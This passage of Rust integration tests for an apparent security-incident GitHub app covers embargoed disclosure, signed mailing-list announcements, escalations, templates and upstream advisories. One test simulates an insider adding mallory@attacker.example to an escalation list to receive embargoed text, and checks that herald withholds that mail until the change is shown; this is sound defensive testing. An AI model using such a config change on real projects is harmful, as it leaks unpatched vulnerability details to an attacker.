        .expect("the OSV record at the configured path");
    common::osv::valid_osv(&text);
    assert_eq!(
        fake.file(REPO, &branch, &format!("advisories/{GHSA}.json")),
        None
    );
    harness.stop().await;

    let fake = world().await;
    fake.put_file(
        REPO,
        ".github/herald.yml",
        "tracking:\n  repository: Codertocat/security\nosv:\n  enabled: false\n",
    );
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;
    github_publishes(&harness).await;
    assert_eq!(fake.pulls(REPO).len(), 1, "the CHANGELOG pull request");
    assert_eq!(
        fake.file(REPO, &branch, &format!("advisories/{GHSA}.json")),
        None,
        "no OSV record when turned off"
    );
    harness.stop().await;
}

const WEBSITE: &str = "Codertocat/website";

/// A world with a public website repository that takes critical incidents' blog posts.
async fn world_with_a_blog() -> FakeGitHub {
    let fake = world().await;
    fake.add_repository(WEBSITE, false, INSTALLATION);
    fake.put_file(
        REPO,
        ".github/herald.yml",
        "tracking:\n  repository: Codertocat/security\nblog:\n  repository: Codertocat/website\n  path: content/blog\n",
    );
    fake
}

fn website_requests(fake: &FakeGitHub) -> Vec<String> {
    fake.requests()
        .into_iter()
        .filter(|request| request.path.starts_with(&format!("/repos/{WEBSITE}")))
        .map(|request| format!("{} {}", request.method, request.path))
        .collect()
}

both_stores!(a_critical_disclosure_offers_the_blog_post_to_the_website_once);
async fn a_critical_disclosure_offers_the_blog_post_to_the_website_once() {
    let fake = world_with_a_blog().await;
    fake.put_file(WEBSITE, "content/blog/hello.md", "---\ntitle: Hello\n---\n");
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;
    assert_eq!(
        website_requests(&fake),
        Vec::<String>::new(),
        "the website hears nothing under embargo"
    );

    github_publishes(&harness).await;
    let pulls = fake.pulls(WEBSITE);
    assert_eq!(pulls.len(), 1, "{pulls:?}");
    let branch = format!("herald/security/{GHSA}");
    assert_eq!(
        (pulls[0].head.as_str(), pulls[0].base.as_str()),
        (branch.as_str(), "main")
    );
    assert_eq!(pulls[0].labels, vec!["security"]);
    let path = "content/blog/ghsa-abcd-1234-efgh.md";
    let post = fake
        .file(WEBSITE, &branch, path)
        .expect("the post on the branch");
    assert!(
        post.starts_with("---\ntitle: \"Security advisory GHSA-abcd-1234-efgh"),
        "{post}"
    );
    assert!(post.contains("date: 2020-01-03"), "{post}");
    assert!(post.contains("A **Critical** vulnerability"), "{post}");
    assert_eq!(fake.file(WEBSITE, "main", path), None, "main is untouched");
    assert!(
        timeline_details(&harness).await.iter().any(
            |detail| detail == &format!("blog post pull request {WEBSITE}#{}", pulls[0].number)
        ),
    );

    publish_a_sharper_summary(&harness).await;
    assert_eq!(fake.pulls(WEBSITE).len(), 1, "no second pull request");
    let post = fake.file(WEBSITE, &branch, path).expect("the post");
    assert!(
        post.contains("A sharper summary"),
        "the post was updated: {post}"
    );
    assert_eq!(
        fake.pulls(WEBSITE)[0].title,
        "Blog: Security advisory GHSA-abcd-1234-efgh: A sharper summary"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_disclosure_below_critical_writes_no_blog_post);
async fn a_disclosure_below_critical_writes_no_blog_post() {
    let fake = world_with_a_blog().await;
    let harness = installed(&fake).await;
    let high = published_advisory(|advisory| {
        advisory["severity"] = "high".into();
        advisory["cvss_severities"] = serde_json::json!({
            "cvss_v3": { "vector_string": "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:N", "score": 8.1 },
            "cvss_v4": null
        });
        advisory["cvss"] = serde_json::Value::Null;
    });
    say(&harness, "repository_advisory", "publish-1", &high).await;
    assert_eq!(
        fake.pulls(REPO).len(),
        1,
        "the CHANGELOG pull request opens"
    );
    assert_eq!(
        website_requests(&fake),
        Vec::<String>::new(),
        "no blog post for a high incident: the website is not even asked"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(closing_an_undisclosed_incident_publishes_nothing);
async fn closing_an_undisclosed_incident_publishes_nothing() {
    let fake = world().await;
    let harness = tracked(&fake).await;
    fake.set_permission(REPO, "alice", "admin");
    command(&harness, "c-1", "alice", "/herald close").await;

    assert_eq!(
        the_incident(&harness).await.phase,
        herald::incident::Phase::Closed
    );
    assert!(fake.pulls(REPO).is_empty());
    assert!(fake.issues(REPO).is_empty());
    assert_eq!(public_writes(&fake), Vec::<String>::new());
    // Closing is no disclosure: no public channel is even queued.
    let queued: Vec<String> = harness
        .store
        .pending_effects()
        .await
        .expect("jobs")
        .into_iter()
        .filter(|job| {
            matches!(
                herald::jobs::Job::decode(&job.kind, &job.payload),
                Ok(herald::jobs::Job::Public { .. })
            )
        })
        .map(|job| job.kind)
        .collect();
    assert!(queued.is_empty(), "{queued:?}");
    let timeline = timeline_details(&harness).await;
    assert!(
        !timeline
            .iter()
            .any(|detail| detail.contains("embargo gate")),
        "{timeline:?}"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(the_advisory_issue_can_be_turned_off);
async fn the_advisory_issue_can_be_turned_off() {
    let fake = world().await;
    fake.put_file(
        REPO,
        ".github/herald.yml",
        "tracking:\n  repository: Codertocat/security\nadvisory_issue:\n  enabled: false\n",
    );
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;
    github_publishes(&harness).await;
    assert_eq!(
        fake.pulls(REPO).len(),
        1,
        "the CHANGELOG pull request still opens"
    );
    assert!(fake.issues(REPO).is_empty(), "no advisory issue");
    assert_eq!(fake.count("POST", &format!("/repos/{REPO}/issues")), 0);
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(repository_templates_override_the_shipped_ones_and_their_errors_are_reported);
async fn repository_templates_override_the_shipped_ones_and_their_errors_are_reported() {
    let fake = world().await;
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    fake.put_file(
        REPO,
        ".github/herald/templates/announcement.txt.hbs",
        "Dear users of {{repository}}: {{summary}} ({{severity_word}}).\n",
    );
    // Strict mode: a field the record lacks is an error, never an empty gap.
    fake.put_file(
        REPO,
        ".github/herald/templates/forum-post.md.hbs",
        "{{summary}} {{no_such_field}}\n",
    );
    fake.put_file(REPO, ".github/herald/templates/bogus.hbs", "x");
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;

    let review = drafts_comments(&fake);
    assert_eq!(review.len(), 1);
    let body = &review[0].body;
    assert!(
        body.contains(
            "Dear users of Codertocat/Hello-World: A short summary of the advisory. (Critical)."
        ),
        "the override renders:\n{body}"
    );
    assert!(body.contains("Template problems"), "{body}");
    assert!(body.contains("forum-post.md"), "{body}");
    assert!(
        body.contains(r"no\_such\_field") && body.contains("strict mode"),
        "{body}"
    );
    let issue = &fake.issues(TRACKING_REPO)[0];
    assert!(
        issue.body.contains("Configuration problem"),
        "{}",
        issue.body
    );
    assert!(
        issue.body.contains("bogus is not a template herald knows"),
        "{}",
        issue.body
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_broken_template_holds_back_only_its_own_channel);
async fn a_broken_template_holds_back_only_its_own_channel() {
    let fake = world().await;
    let override_path = ".github/herald/templates/advisory-issue.md.hbs";
    fake.put_file(REPO, override_path, "{{#if summary}}\nunclosed block\n");
    let harness = publish_approved(&fake, |_| {}).await;

    assert!(the_incident(&harness).await.published_on_github());
    assert_eq!(
        fake.pulls(REPO).len(),
        1,
        "the CHANGELOG pull request opens"
    );
    assert!(
        fake.issues(REPO).is_empty(),
        "the broken advisory issue does not"
    );
    let reported = escalations(&fake, &format!("advisory\\_issue for {GHSA} was refused"));
    assert_eq!(reported.len(), 1, "{:?}", answers(&fake));
    assert!(reported[0].contains("advisory-issue.md"), "{}", reported[0]);
    assert!(
        reported[0].contains("invalid handlebars syntax"),
        "{}",
        reported[0]
    );
    assert!(
        reported[0].contains(r#"in "advisory-issue.md":3:1"#),
        "{}",
        reported[0]
    );
    assert!(reported[0].contains("`/herald retry`"), "{}", reported[0]);

    // Fixed, and run again on command.
    fake.put_file(REPO, override_path, "Fixed: {{summary}}\n");
    command(&harness, "c-2", "alice", "/herald retry").await;
    let issues = fake.issues(REPO);
    assert_eq!(issues.len(), 1);
    assert!(issues[0].body.starts_with("Fixed: "), "{}", issues[0].body);
    assert!(
        timeline_details(&harness)
            .await
            .contains(&"1 failed job(s) queued again".to_owned())
    );
    assert_eq!(fake.pulls(REPO).len(), 1, "nothing else ran twice");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(templates_that_include_each_other_are_refused_and_herald_keeps_serving);
async fn templates_that_include_each_other_are_refused_and_herald_keeps_serving() {
    let fake = world().await;
    // Rendered as they are, these two would recurse until the stack overflows.
    fake.put_file(
        REPO,
        ".github/herald/templates/advisory-issue.md.hbs",
        "x{{> forum-post.md}}",
    );
    fake.put_file(
        REPO,
        ".github/herald/templates/forum-post.md.hbs",
        "x{{> advisory-issue.md}}",
    );
    let harness = publish_approved(&fake, |_| {}).await;

    assert!(the_incident(&harness).await.published_on_github());
    assert_eq!(
        fake.pulls(REPO).len(),
        1,
        "the CHANGELOG pull request opens"
    );
    assert!(fake.issues(REPO).is_empty(), "the advisory issue does not");
    let reported = escalations(&fake, &format!("advisory\\_issue for {GHSA} was refused"));
    assert_eq!(reported.len(), 1, "{:?}", answers(&fake));
    assert!(
        reported[0].contains("advisory-issue.md → forum-post.md → advisory-issue.md"),
        "the cycle is named: {}",
        reported[0]
    );
    let review = drafts_comments(&fake);
    assert!(
        review
            .iter()
            .any(|comment| comment.body.contains("its includes form a cycle")),
        "the review names the problem"
    );
    // Still serving: the next command is answered.
    command(&harness, "c-after", "alice", "/herald help").await;
    assert!(
        answers(&fake)
            .iter()
            .any(|answer| answer.body.contains("/herald close")),
        "herald still answers"
    );
    harness.stop().await;
}

/// herald with mail, the SMTP server it sends to, GnuPG knowing its key, and the key's
/// folder (read again when herald restarts).
struct MailWorld {
    harness: Harness,
    sink: SmtpSink,
    gpg: Gpg,
    _key_dir: tempfile::TempDir,
    /// herald's signing key, public and armored.
    signing_public: String,
}

/// Two lists, one per signing mode.
const TWO_LISTS: &str = "tracking:\n  repository: Codertocat/security\nchannels:\n  discussions:\n    category: Announcements\nmailing_lists:\n  - address: announce@lists.example.org\n    name: Example announce\n  - address: oss-security@lists.example.org\n    signing: pgp-mime\n";

/// A world whose advisory repository is configured by `config`, with mail going to a real
/// SMTP server; returns herald (with its signing key) and the server.
async fn world_with_mail(fake: &FakeGitHub, config: &str) -> MailWorld {
    fake.put_file(REPO, ".github/herald.yml", config);
    let sink = SmtpSink::start();
    let (key, secret) =
        SigningKey::generate("Example Security <security@example.org>").expect("key");
    let signing_public = key.public_key().expect("public key");
    let gpg = Gpg::with_public_key(&signing_public);
    let key_dir = tempfile::tempdir().expect("temp dir");
    let key_file = key_dir.path().join("signing-key.asc");
    std::fs::write(&key_file, secret).expect("key file");
    let smtp_url = sink.url();
    let harness = installed_with(fake, |settings| {
        settings.mail = MailSettings {
            smtp_url: Some(SecretString::from(smtp_url)),
            from: Some("Example Security <security@example.org>".to_owned()),
            reply_to: None,
            signing_key_file: Some(key_file),
            signing_key_passphrase: None,
        };
    })
    .await;
    MailWorld {
        harness,
        sink,
        gpg,
        _key_dir: key_dir,
        signing_public,
    }
}

both_stores!(disclosure_mails_each_list_one_signed_announcement);
async fn disclosure_mails_each_list_one_signed_announcement() {
    let fake = world().await;
    let MailWorld {
        harness,
        sink,
        gpg,
        _key_dir: _keys,
        ..
    } = world_with_mail(&fake, TWO_LISTS).await;
    report(&harness, "report-1").await;
    assert!(sink.messages().is_empty(), "no mail under embargo");

    github_publishes(&harness).await;
    let messages = sink.messages();
    assert_eq!(messages.len(), 2, "one message per list");
    let mut ids = Vec::new();
    for raw in &messages {
        let received = Received::parse(raw);
        let to = received.header("To").expect("To");
        let subject = received.header("Subject").expect("Subject");
        assert!(subject.contains(GHSA), "{subject}");
        ids.push(received.header("Message-ID").expect("Message-ID"));
        if to.contains("oss-security@") {
            let parts = received.parts();
            let status = gpg
                .verify_detached(&part_body(&parts[1]), &parts[0])
                .expect("PGP/MIME verifies");
            assert!(status.contains("GOODSIG"));
            let text = String::from_utf8(part_body(&parts[0])).expect("UTF-8");
            assert!(text.contains("A short summary of the advisory."), "{text}");
        } else {
            assert_eq!(to, "\"Example announce\" <announce@lists.example.org>");
            let text = decode_body(&received);
            gpg.verify_cleartext(&text).expect("cleartext verifies");
            assert!(
                String::from_utf8_lossy(&text).contains("CVE-2050-00000"),
                "the announcement names the CVE"
            );
            let discussion = format!(
                "Discussion: https://github.com/{REPO}/discussions/{}",
                fake.discussions(REPO)[0].number
            );
            assert!(
                String::from_utf8_lossy(&text).contains(&discussion),
                "the announcement links the discussion"
            );
        }
    }
    assert!(ids.iter().all(|id| id.starts_with("<herald.")), "{ids:?}");
    assert_ne!(ids[0], ids[1], "one Message-ID per list");
    let timeline = timeline_details(&harness).await;
    assert_eq!(
        timeline
            .iter()
            .filter(|detail| detail.starts_with("signed announcement sent to"))
            .count(),
        2,
        "{timeline:?}"
    );

    // The advisory changes after disclosure, and GitHub redelivers: no list is mailed again.
    publish_a_sharper_summary(&harness).await;
    let answer = harness
        .deliver(
            "repository_advisory",
            "publish-1",
            &advisory("repository_advisory.published.composed.json"),
        )
        .await;
    assert_eq!(answer.status, 200, "{}", answer.body);
    harness.wait_all_jobs().await;
    assert_eq!(
        sink.messages().len(),
        2,
        "each list got the announcement once"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_refusing_mail_server_is_reported_on_the_tracking_issue_and_retried);
async fn a_refusing_mail_server_is_reported_on_the_tracking_issue_and_retried() {
    let fake = world().await;
    let MailWorld {
        harness,
        sink,
        gpg,
        _key_dir: _keys,
        ..
    } = world_with_mail(&fake, TWO_LISTS).await;
    report(&harness, "report-1").await;
    sink.refuse("451 4.3.0 mailbox busy, try later");
    let answer = harness
        .deliver(
            "repository_advisory",
            "publish-1",
            &advisory("repository_advisory.published.composed.json"),
        )
        .await;
    assert_eq!(answer.status, 202, "{}", answer.body);
    // Both sends fail once; each failure is reported once on the tracking issue.
    let tracking = fake.issues(TRACKING_REPO)[0].number;
    let failures = || -> Vec<String> {
        fake.comments(TRACKING_REPO, tracking)
            .into_iter()
            .map(|comment| comment.body)
            .filter(|body| body.contains("could not send the signed announcement"))
            .collect()
    };
    harness
        .until("two failure notices", async || failures().len() == 2)
        .await;
    let failures = failures();
    assert_eq!(
        failures.len(),
        2,
        "{failures:?} {:?}",
        timeline_details(&harness).await
    );
    assert!(failures[0].contains("mailbox busy"), "{}", failures[0]);
    assert!(sink.messages().is_empty());

    sink.accept();
    harness.wait_all_jobs().await;
    let messages = sink.messages();
    assert_eq!(messages.len(), 2, "the retries went out");
    let cleartext = messages
        .iter()
        .map(|raw| Received::parse(raw))
        .find(|received| {
            received
                .header("To")
                .is_some_and(|to| to.contains("announce@"))
        })
        .expect("the cleartext list's message");
    gpg.verify_cleartext(&decode_body(&cleartext))
        .expect("verifies");
    let comments = fake.comments(TRACKING_REPO, tracking);
    assert_eq!(
        comments
            .iter()
            .filter(|comment| comment.body.contains("could not send"))
            .count(),
        2,
        "retries are quiet"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

#[tokio::test]
async fn a_bad_signing_key_stops_herald_at_start_naming_its_fingerprint() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (key, secret) = SigningKey::generate("A <a@example.org>").expect("key");
    let public_only = dir.path().join("public.asc");
    std::fs::write(&public_only, key.public_key().expect("public")).expect("write");
    let mut settings = common::settings(
        &format!("sqlite://{}", dir.path().join("herald.db").display()),
        true,
    );
    settings.mail.signing_key_file = Some(public_only);
    let error = herald::server::Server::start(&settings)
        .await
        .err()
        .expect("refused");
    let text = format!("{error:#}");
    assert!(text.contains(&key.fingerprint()), "{text}");
    assert!(text.contains("public key"), "{text}");

    let secret_file = dir.path().join("secret.asc");
    std::fs::write(&secret_file, secret).expect("write");
    settings.mail.signing_key_file = Some(secret_file);
    settings.mail.smtp_url = Some(SecretString::from("smtp://u:hunter2@127.0.0.1:1"));
    let error = herald::server::Server::start(&settings)
        .await
        .err()
        .expect("refused");
    let text = format!("{error:#}");
    assert!(text.contains("HERALD_MAIL_FROM"), "{text}");
    assert!(!text.contains("hunter2"), "{text}");
}

/// The Reaction row of the tracking issue.
fn reaction_row(fake: &FakeGitHub) -> String {
    let body = fake.issues(TRACKING_REPO)[0].body.clone();
    body.lines()
        .find(|line| line.starts_with("| Reaction |"))
        .expect("a Reaction row")
        .to_owned()
}

both_stores!(the_reaction_clock_shows_on_the_issue_and_an_ack_stops_it);
async fn the_reaction_clock_shows_on_the_issue_and_an_ack_stops_it() {
    let fake = world().await;
    let harness = tracked(&fake).await;
    let reaction = reaction_row(&fake);
    assert!(
        reaction.contains("due **") && reaction.contains("critical, 4 business hours"),
        "{reaction}"
    );

    fake.set_permission(REPO, "alice", "write");
    command(&harness, "c-ack", "alice", "/herald ack").await;
    let incident = the_incident(&harness).await;
    assert!(incident.decisions.acknowledged_at.is_some());
    assert_eq!(incident.phase, herald::incident::Phase::Assessment);
    let replies = answers(&fake);
    assert!(
        replies
            .last()
            .is_some_and(|reply| reply.body.contains("the reaction clock stops")
                && reply.body.contains("Nobody coordinates yet")),
        "{replies:?}"
    );
    let reaction = reaction_row(&fake);
    assert!(
        reaction.contains("acknowledged") && reaction.contains("within the deadline"),
        "{reaction}"
    );
    let body = fake.issues(TRACKING_REPO)[0].body.clone();
    assert!(
        body.contains("| Coordinator | **nobody, although the report is acknowledged**"),
        "an acknowledged incident without a coordinator is flagged:\n{body}"
    );

    // The coordinator is assigned the tracking issue.
    command(&harness, "c-coord", "alice", "/herald coordinator @alice").await;
    let issue = &fake.issues(TRACKING_REPO)[0];
    assert_eq!(issue.assignees, vec!["alice"]);
    assert!(
        issue.body.contains("| Coordinator | alice |"),
        "{}",
        issue.body
    );
    assert_eq!(
        fake.count(
            "POST",
            &format!("/repos/{TRACKING_REPO}/issues/{}/assignees", issue.number)
        ),
        1
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// Critical incidents escalate to two GitHub handles and an on-call address.
const ESCALATION: &str = "tracking:\n  repository: Codertocat/security\nescalation:\n  critical: [\"@alice\", \"@Codertocat/security-team\", oncall@example.org]\n";

/// herald's comments on the tracking issue that contain `words` (the drafts comment aside).
fn escalations(fake: &FakeGitHub, words: &str) -> Vec<String> {
    answers(fake)
        .into_iter()
        .map(|comment| comment.body)
        .filter(|body| body.contains(words))
        .collect()
}

both_stores!(a_new_mail_reader_is_shown_on_the_tracking_issue_before_any_mail_reaches_it);
async fn a_new_mail_reader_is_shown_on_the_tracking_issue_before_any_mail_reaches_it() {
    let fake = world().await;
    let MailWorld { harness, sink, .. } = reported_with_mail(&fake, ESCALATION).await;
    fake.set_permission(REPO, "alice", "write");
    assert!(
        timeline_details(&harness).await.contains(
            &"embargoed text goes by mail to oncall@example.org; chat notices do not quote the summary"
                .to_owned()
        ),
        "the audience the tracking issue opened with is on the record"
    );
    // A pusher adds their own address to the critical escalation list.
    fake.put_file_as(
        REPO,
        ".github/herald.yml",
        &ESCALATION.replace(
            "oncall@example.org]",
            "oncall@example.org, mallory@attacker.example]",
        ),
        "mallory",
    );
    // A reminder that runs before the tracking issue has shown the change mails only
    // whom it showed.
    harness.bring_forward("warning").await;
    let mailed = |sink: &SmtpSink| -> Vec<String> {
        sink.messages()
            .iter()
            .filter_map(|raw| Received::parse(raw).header("To"))
            .collect()
    };
    assert_eq!(mailed(&sink), vec!["oncall@example.org"]);
    assert!(
        timeline_details(&harness)
            .await
            .iter()
            .any(|detail| detail.ends_with(
                "; not mailed until the tracking issue shows them: mallory@attacker.example"
            )),
        "{:?}",
        timeline_details(&harness).await
    );
    // The next change of the incident shows it on the tracking issue, with who pushed it;
    // from then on it applies.
    command(&harness, "c-1", "alice", "/herald threat active").await;
    let shown: Vec<String> = answers(&fake)
        .into_iter()
        .map(|comment| comment.body)
        .filter(|body| body.starts_with("**Who receives this incident's text changed**"))
        .collect();
    assert_eq!(shown.len(), 1, "{shown:#?}");
    assert!(
        shown[0].contains("pushed by mallory")
            && shown[0].contains("mallory\\@\u{200b}attacker.example added"),
        "{}",
        shown[0]
    );
    harness
        .until("the active threat is mailed", async || {
            mailed(&sink).len() >= 3
        })
        .await;
    let mut to = mailed(&sink);
    to.sort();
    assert_eq!(
        to,
        vec![
            "mallory@attacker.example",
            "oncall@example.org",
            "oncall@example.org"
        ]
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(reminders_and_escalations_fire_once_each_also_across_a_restart);
async fn reminders_and_escalations_fire_once_each_also_across_a_restart() {
    let fake = world().await;
    let MailWorld {
        mut harness,
        sink,
        gpg,
        _key_dir: _keys,
        ..
    } = reported_with_mail(&fake, ESCALATION).await;
    let reminders = harness.pending_reminders().await;
    assert_eq!(reminders.len(), 2, "{reminders:?}");
    assert!(reminders[0].0.contains(":warning:") && reminders[1].0.contains(":breach:"));
    assert!(
        reminders.iter().all(|(_, due_in)| *due_in > 0),
        "both wait for their time: {reminders:?}"
    );
    assert!(escalations(&fake, "reaction").is_empty());

    harness.bring_forward("warning").await;
    let warnings = escalations(&fake, "75% of the reaction time");
    assert_eq!(warnings.len(), 1, "{warnings:?}");
    // The metrics count the reminder and what herald asked of GitHub.
    let (text, metrics) = crate::metrics::scrape(&harness, &harness.url("/metrics")).await;
    let value = |metric, labels: &[(&str, &str)]| crate::metrics::value(&metrics, metric, labels);
    assert_eq!(
        value("herald_sla_notices_total", &[("stage", "warning")]),
        Some(1.0),
        "{text}"
    );
    assert_eq!(
        value("herald_sla_notices_total", &[("stage", "breach")]),
        None
    );
    let answered = value("herald_github_requests_total", &[("outcome", "ok")]);
    assert!(answered.is_some_and(|count| count >= 3.0), "{text}");
    assert_eq!(
        value(
            "herald_github_requests_total",
            &[("outcome", "unreachable")]
        ),
        None
    );
    let remaining = value("herald_github_rate_limit_remaining", &[]).unwrap_or(-1.0);
    assert!(
        remaining >= fake.rate_limit_remaining() as f64 && remaining < 5000.0,
        "as the fake's last answers said: {text}"
    );
    assert!(
        warnings[0].starts_with("@alice @Codertocat/security-team 75% of the reaction time for GHSA-abcd-1234-efgh (critical severity)"),
        "{}",
        warnings[0]
    );
    let messages = sink.messages();
    assert_eq!(messages.len(), 1, "the on-call address is mailed");
    let received = Received::parse(&messages[0]);
    assert_eq!(received.header("To").as_deref(), Some("oncall@example.org"));
    let subject = received.header("Subject").expect("subject");
    assert!(
        subject.starts_with("[herald] Security incident ")
            && subject.ends_with(": reaction due soon"),
        "{subject}"
    );
    headers_name_nothing(&received);
    let text = decode_body(&received);
    gpg.verify_cleartext(&text).expect("the notice is signed");
    assert!(
        !String::from_utf8_lossy(&text).contains("A short summary of the advisory"),
        "no advisory text in mail"
    );

    // herald restarts; the breach reminder is still queued and fires once.
    harness.restart(true).await;
    harness.bring_forward("breach").await;
    let breaches = escalations(&fake, "deadline for GHSA-abcd-1234-efgh");
    assert_eq!(breaches.len(), 1, "{breaches:?}");
    assert_eq!(sink.messages().len(), 2);
    assert!(harness.pending_reminders().await.is_empty());
    harness.restart(true).await;
    harness.wait_all_jobs().await;
    assert_eq!(escalations(&fake, "75% of the reaction time").len(), 1);
    assert_eq!(escalations(&fake, "deadline for").len(), 1);
    assert_eq!(sink.messages().len(), 2, "nothing fired twice");
    let timeline = timeline_details(&harness).await;
    assert!(
        timeline.contains(
            &"escalation (warning): notified @alice, @Codertocat/security-team, oncall@example.org"
                .to_owned()
        ),
        "{timeline:?}"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(an_acknowledged_incident_is_not_escalated);
async fn an_acknowledged_incident_is_not_escalated() {
    let fake = world().await;
    let MailWorld {
        harness,
        sink,
        _key_dir: _keys,
        ..
    } = world_with_mail(&fake, ESCALATION).await;
    report(&harness, "report-1").await;
    fake.set_permission(REPO, "bob", "write");
    command(&harness, "c-ack", "bob", "/herald ack").await;
    harness.bring_forward("breach").await;
    assert!(escalations(&fake, "deadline for").is_empty());
    assert!(sink.messages().is_empty());
    assert!(
        !timeline_details(&harness)
            .await
            .iter()
            .any(|detail| detail.starts_with("escalation")),
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(closing_posts_the_post_incident_review_with_measures_and_undone_items);
async fn closing_posts_the_post_incident_review_with_measures_and_undone_items() {
    let fake = world().await;
    let harness = tracked(&fake).await;
    fake.set_permission(REPO, "alice", "admin");
    command(
        &harness,
        "c-1",
        "alice",
        "/herald ack\n/herald phase containment",
    )
    .await;
    // A maintainer ticks one item of the checklist on GitHub.
    let body = fake.issues(TRACKING_REPO)[0].body.clone();
    let ticked = body.replacen(
        "- [ ] Notify the maintainers and admins who must know",
        "- [x] Notify the maintainers and admins who must know",
        1,
    );
    assert_ne!(ticked, body);
    fake.edit_issue_body(TRACKING_REPO, 1, &ticked);
    command(&harness, "c-2", "alice", "/herald close").await;
    assert_eq!(
        the_incident(&harness).await.phase,
        herald::incident::Phase::Closed
    );
    let reviews: Vec<String> = fake
        .comments(TRACKING_REPO, 1)
        .into_iter()
        .map(|comment| comment.body)
        .filter(|body| body.starts_with("# Post-incident review: GHSA-abcd-1234-efgh"))
        .collect();
    assert_eq!(reviews.len(), 1, "one review");
    let review = &reviews[0];
    assert!(
        review.contains("| Acknowledge | ") && review.contains("within the target"),
        "{review}"
    );
    assert!(
        review.contains("| Disclose | not done (target "),
        "{review}"
    );
    assert!(
        review.contains("- Prevent further exploitation"),
        "unticked items are listed: {review}"
    );
    assert!(
        !review.contains("Notify the maintainers and admins"),
        "the ticked item is not: {review}"
    );
    assert!(
        review.contains("phase assessment → containment")
            || review.contains("phase set to containment"),
        "{review}"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// A global advisory payload (the GitHub Advisory Database example, about django).
fn global_advisory(name: &str) -> Vec<u8> {
    fixture(name)
}

/// GitHub's global database publishes the Django advisory (delivery `global-1`).
async fn report_global_advisory(harness: &Harness) {
    say(
        harness,
        "security_advisory",
        "global-1",
        &global_advisory("security_advisory.published.0.json"),
    )
    .await;
}

both_stores!(a_global_advisory_opens_an_upstream_incident_where_the_package_is_used);
async fn a_global_advisory_opens_an_upstream_incident_where_the_package_is_used() {
    let fake = world().await;
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    fake.set_sbom(REPO, &["pkg:pypi/django@2.0.1", "pkg:npm/left-pad@1.3.0"]);
    let harness = installed(&fake).await;
    report_global_advisory(&harness).await;
    let rows = harness
        .store
        .incidents_by_ghsa(&common::ghsa("GHSA-rf4j-j272-fj86"))
        .await
        .expect("incidents");
    assert_eq!(rows.len(), 1, "one upstream incident");
    let incident = &rows[0].incident;
    assert_eq!(incident.repository, REPO);
    let origin = incident.upstream.as_ref().expect("an upstream incident");
    assert_eq!(
        (
            origin.dependency.name.as_str(),
            origin.dependency.version.as_str()
        ),
        ("django", "2.0.1")
    );
    assert_eq!(origin.fixed_version.as_deref(), Some("2.0.2"));
    assert_eq!(incident.cve_id.as_deref(), Some("CVE-2018-6188"));
    assert_eq!(incident.severity, herald::incident::Severity::Medium);
    let issues = fake.issues(TRACKING_REPO);
    assert_eq!(issues.len(), 1, "tracked like any incident");
    assert!(
        issues[0].body.contains(
            "| Upstream | this repository depends on pip django 2.0.1 (vulnerable: &gt;= 2.0.0, &lt; 2.0.2); upgrade to 2.0.2 |"
        ),
        "{}",
        issues[0].body
    );
    assert!(
        fake.pulls(REPO).is_empty(),
        "nothing public: it is not our advisory"
    );

    // The same advisory again, and one about a package nobody uses: nothing new, and the
    // dependency graph is read once (cached).
    let mut again: serde_json::Value =
        serde_json::from_slice(&global_advisory("security_advisory.published.0.json"))
            .expect("JSON");
    again["security_advisory"]["updated_at"] = "2026-11-27T11:00:00Z".into();
    say(
        &harness,
        "security_advisory",
        "global-2",
        &serde_json::to_vec(&again).expect("JSON"),
    )
    .await;
    let mut unused: serde_json::Value =
        serde_json::from_slice(&global_advisory("security_advisory.published.0.json"))
            .expect("JSON");
    unused["security_advisory"]["ghsa_id"] = "GHSA-xxxx-yyyy-zzzz".into();
    unused["security_advisory"]["vulnerabilities"][0]["package"]["name"] = "flask".into();
    unused["security_advisory"]["vulnerabilities"][1]["package"]["name"] = "flask".into();
    say(
        &harness,
        "security_advisory",
        "global-3",
        &serde_json::to_vec(&unused).expect("JSON"),
    )
    .await;
    assert!(
        harness
            .store
            .incidents_by_ghsa(&common::ghsa("GHSA-xxxx-yyyy-zzzz"))
            .await
            .expect("incidents")
            .is_empty(),
        "a package nobody uses opens nothing"
    );
    assert_eq!(fake.issues(TRACKING_REPO).len(), 1);
    assert_eq!(
        fake.count("GET", &format!("/repos/{REPO}/dependency-graph/sbom")),
        1,
        "the dependency graph is cached"
    );

    // Withdrawn: the incident closes with a note.
    let mut withdrawn: serde_json::Value =
        serde_json::from_slice(&global_advisory("security_advisory.published.0.json"))
            .expect("JSON");
    withdrawn["action"] = "withdrawn".into();
    withdrawn["security_advisory"]["withdrawn_at"] = "2026-11-27T12:00:00Z".into();
    say(
        &harness,
        "security_advisory",
        "global-4",
        &serde_json::to_vec(&withdrawn).expect("JSON"),
    )
    .await;
    let rows = harness
        .store
        .incidents_by_ghsa(&common::ghsa("GHSA-rf4j-j272-fj86"))
        .await
        .expect("incidents");
    assert_eq!(rows[0].incident.phase, herald::incident::Phase::Closed);
    let timeline = harness
        .store
        .timeline_entries(rows[0].id)
        .await
        .expect("timeline");
    assert!(
        timeline
            .iter()
            .any(|entry| entry.detail.contains("withdrawn: incident closed")),
        "{timeline:?}"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// A mail server answering `reply` to every message, for a published incident with two
/// lists and two attempts per job.
async fn mail_refused_with(
